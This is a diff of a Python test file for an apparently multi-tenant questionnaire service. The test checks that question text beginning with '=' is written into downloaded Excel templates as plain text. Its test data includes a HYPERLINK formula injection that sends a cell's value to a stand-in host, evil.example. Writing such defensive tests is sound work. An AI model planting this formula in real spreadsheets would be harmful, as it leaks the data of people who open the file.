@@ -550,10 +550,10 @@ def test_a_workbook_that_unpacks_to_gigabytes_is_413_before_it_is_read(
 
 
 def test_question_text_that_looks_like_a_formula_is_written_as_text(
-    client: TestClient, tenant_a: Any, tenant_b: Any, bundled: Questionnaire, settings: Any
+    client: TestClient, tenant_a: Any, bundled: Questionnaire, settings: Any
 ) -> None:
-    """Any analyst may publish a questionnaire version, and every organisation downloads its
-    template: text starting with '=' must not become a live formula in someone's sheet."""
+    """An analyst publishes a questionnaire version and the organisation's investors download
+    its template: text starting with '=' must not become a live formula in their sheets."""
     formula = '=HYPERLINK("https://evil.example/?leak="&J2,"Open the guidance")'
     text = (settings.questionnaires_dir / "stap-surveillance-v1.yaml").read_text()
     lines = text.replace(f"\nversion: {bundled.version}\n", "\nversion: 1.1.0\n", 1).split("\n")
@@ -571,7 +571,7 @@ def test_question_text_that_looks_like_a_formula_is_written_as_text(
     )
     assert published.status_code == 201, published.text
 
-    workbook = template(client, tenant_b.investor, "1.1.0")
+    workbook = template(client, tenant_a.investor, "1.1.0")
     sheet = workbook["Answers"]
     [cell] = [row[2] for row in sheet.iter_rows(min_row=2) if row[0].value == "P1"]
     assert (cell.value, cell.data_type) == (formula, "s")
